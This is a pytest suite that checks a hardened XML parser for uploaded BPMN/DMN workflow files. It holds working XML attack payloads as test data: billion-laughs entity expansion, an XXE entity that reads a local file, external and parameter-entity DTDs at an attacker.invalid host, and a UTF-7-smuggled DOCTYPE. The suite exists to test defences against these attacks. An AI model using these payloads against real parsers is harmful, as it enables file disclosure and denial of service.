"""Uploaded BPMN/DMN is parsed without entities, DTDs or network, and every
document carrying a DOCTYPE is refused before lxml expands anything.

Where it matters, a control parse with a permissive lxml parser shows that
the attack document is live (it really leaks the secret), so the refusal
is not an accident of a broken fixture.
"""
import io
import re
import time

import pytest
from lxml import etree
from SpiffWorkflow.spiff.parser.process import SpiffBpmnParser

from app.workflow import xml_safety
from app.workflow.xml_safety import MAX_XML_BYTES, UnsafeXml, parse_untrusted_xml

SECRET = "TOP-SECRET-7f3a9c"

VALID_BPMN = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- exported by bpmn-js -->
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    id="defs" targetNamespace="http://example.com/lanes">
  <bpmn:process id="hello" name="\xe5\xae\xa1\xe6\x89\xb9" isExecutable="true">
    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:endEvent id="end"><bpmn:incoming>f1</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end"/>
  </bpmn:process>
</bpmn:definitions>
"""


def _billion_laughs(levels: int = 10) -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(entities) + "\n]>\n"
        f'<lolz a="&lol{levels - 1};">&lol{levels - 1};</lolz>'
    ).encode()


@pytest.fixture
def secret_file(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


def _xxe(secret_file) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>\n'
        '<definitions id="d">&xxe;</definitions>'
    ).encode()


def _refused(data: bytes, filename: str = "upload.bpmn") -> UnsafeXml:
    with pytest.raises(UnsafeXml) as raised:
        parse_untrusted_xml(data, filename)
    assert raised.value.message.startswith(filename + ":")
    assert str(raised.value) == raised.value.message
    return raised.value


def test_valid_bpmn_passes_and_feeds_the_engine_parser():
    tree = parse_untrusted_xml(VALID_BPMN, "hello.bpmn")
    assert isinstance(tree, etree._ElementTree)
    assert tree.getroot().tag == "{http://www.omg.org/spec/BPMN/20100524/MODEL}definitions"
    assert tree.getroot().find(".//{*}process").get("name") == "\u5ba1\u6279"
    assert isinstance(tree.getroot().getprevious(), etree._Comment), "comments are kept"
    parser = SpiffBpmnParser()
    parser.add_bpmn_xml(tree, filename="hello.bpmn")
    assert parser.get_spec("hello").name == "hello"


def test_utf8_bom_and_ascii_declaration_are_accepted():
    assert parse_untrusted_xml(b"\xef\xbb\xbf" + VALID_BPMN, "bom.bpmn").getroot() is not None
    ascii_doc = b'<?xml version="1.0" encoding="us-ascii"?><x/>'
    assert parse_untrusted_xml(ascii_doc, "a.dmn").getroot().tag == "x"


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "windows-1252", "GBK"])
def test_a_pure_ascii_document_declaring_an_ascii_compatible_encoding_is_accepted(encoding):
    """Such a file reads the same as UTF-8; a character reference carries what is not ASCII."""
    data = f'<?xml version="1.0" encoding="{encoding}"?><x name="&#x68C0;"/>'.encode("ascii")
    assert parse_untrusted_xml(data, "a.bpmn").getroot().get("name") == "\u68c0"


def test_xxe_never_reads_the_local_file(secret_file):
    data = _xxe(secret_file)
    # Control: a permissive parser really pulls the file in.
    permissive = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True)
    assert SECRET in etree.tostring(etree.fromstring(data, permissive)).decode()

    error = _refused(data)
    assert error.line == 2
    assert "DOCTYPE" in error.message
    assert SECRET not in error.message


def test_xxe_without_the_pre_scan_still_does_not_leak(secret_file, monkeypatch):
    """The DOCTYPE scan is the first wall; the parser options and the docinfo
    check must hold on their own, should the scan ever be bypassed."""
    monkeypatch.setattr(xml_safety, "_DTD_MARKUP", re.compile(rb"(?!)"))
    tree = etree.parse(io.BytesIO(_xxe(secret_file)), xml_safety._new_parser())
    assert SECRET not in etree.tostring(tree).decode()
    error = _refused(_xxe(secret_file))
    assert "DOCTYPE" in error.message and SECRET not in error.message


def test_billion_laughs_fails_fast_without_expanding():
    data = _billion_laughs()
    started = time.monotonic()
    error = _refused(data)
    assert time.monotonic() - started < 0.5
    assert error.line == 2
    assert len(error.message) < 200


def test_billion_laughs_without_the_pre_scan_is_still_refused(monkeypatch):
    monkeypatch.setattr(xml_safety, "_DTD_MARKUP", re.compile(rb"(?!)"))
    started = time.monotonic()
    _refused(_billion_laughs())
    assert time.monotonic() - started < 0.5


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE definitions>",
        '<!DOCTYPE definitions SYSTEM "http://attacker.invalid/bpmn.dtd">',
        '<!DOCTYPE definitions PUBLIC "-//X//DTD X//EN" "http://attacker.invalid/x.dtd">',
        '<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>',
        '<!DOCTYPE definitions [<!ELEMENT definitions ANY>]>',
        "<!doctype definitions>",
        "<!  DOCTYPE definitions>",
    ],
    ids=["plain", "external-system", "external-public", "parameter-entity", "internal-subset", "lowercase",
         "spaced"],
)
def test_any_doctype_is_refused_without_network(doctype):
    data = f'<?xml version="1.0"?>\n\n{doctype}\n<definitions id="d"/>'.encode()
    started = time.monotonic()
    error = _refused(data)
    assert time.monotonic() - started < 0.5, "no attempt to fetch the DTD"
    assert error.line == 3


def test_entity_declaration_anywhere_is_refused():
    data = b'<definitions id="d">\n<!-- <!ENTITY x "y"> -->\n</definitions>'
    error = _refused(data)
    assert error.line == 2 and "ENTITY" in error.message


@pytest.mark.parametrize(
    ("data", "hint"),
    [
        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "v">]><x>&e;</x>'.encode("utf-16"), "UTF-8"),
        ('<?xml version="1.0" encoding="UTF-16BE"?><x/>'.encode("utf-16-be"), "UTF-8"),
        ('<?xml version="1.0" encoding="UTF-32"?><x/>'.encode("utf-32"), "UTF-8"),
        # UTF-7 spells "<!DOCTYPE" as "+ADw-!DOCTYPE": invisible to a byte scan.
        (b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<x/>', "UTF-7"),
        ('<?xml version="1.0" encoding="ISO-8859-1"?><x>\u00e9</x>'.encode("latin-1"), "ISO-8859-1"),
        ('<?xml version="1.0" encoding="cp037"?><x/>'.encode("cp037"), "UTF-8"),
    ],
    ids=["utf16-bom-doctype", "utf16-no-bom", "utf32", "utf7-smuggled-doctype", "latin1", "ebcdic"],
)
def test_only_utf8_documents_are_accepted(data, hint):
    error = _refused(data)
    assert hint in error.message and error.line == 1


def test_forced_utf8_defeats_a_declared_encoding_even_without_the_check(monkeypatch):
    monkeypatch.setattr(xml_safety, "_check_encoding", lambda data, filename: None)
    error = _refused(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<x/>')
    assert "not well-formed" in error.message


def test_oversized_input_is_refused_before_parsing():
    filler = b"<a>" + b"x" * (MAX_XML_BYTES - 7) + b"</a>"
    assert len(filler) == MAX_XML_BYTES
    assert parse_untrusted_xml(filler, "big.bpmn").getroot().tag == "a"
    error = _refused(filler + b" ", "huge.bpmn")
    assert str(MAX_XML_BYTES) in error.message and error.line is None
    # A DOCTYPE hidden past the limit does not matter: nothing is scanned or parsed.
    _refused(b"<a>" + b" " * MAX_XML_BYTES + b"<!DOCTYPE a></a>")


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b'<?xml version="1.0"?>\n<definitions>\n  <process id="p">\n  </proces>\n</definitions>\n', 4),
        (b"<definitions>\n<a b='1' b='2'/>\n</definitions>", 2),
        (b"<definitions>\n\n\n<unclosed>", 4),
        (b"<a/>\n<b/>", 2),
        (b"\n\nnot xml at all", 3),
    ],
    ids=["mismatched-tag", "duplicate-attribute", "truncated", "two-roots", "text"],
)
def test_malformed_xml_reports_the_line(data, line):
    error = _refused(data)
    assert error.line == line
    assert "not well-formed" in error.message


@pytest.mark.parametrize("data", [b"", b"  \n\t "], ids=["empty", "blank"])
def test_empty_input_is_refused(data):
    assert _refused(data).line == 1


def test_non_bytes_input_is_a_programming_error():
    with pytest.raises(TypeError):
        parse_untrusted_xml(VALID_BPMN.decode(), "hello.bpmn")
    assert parse_untrusted_xml(bytearray(VALID_BPMN), "hello.bpmn").getroot() is not None
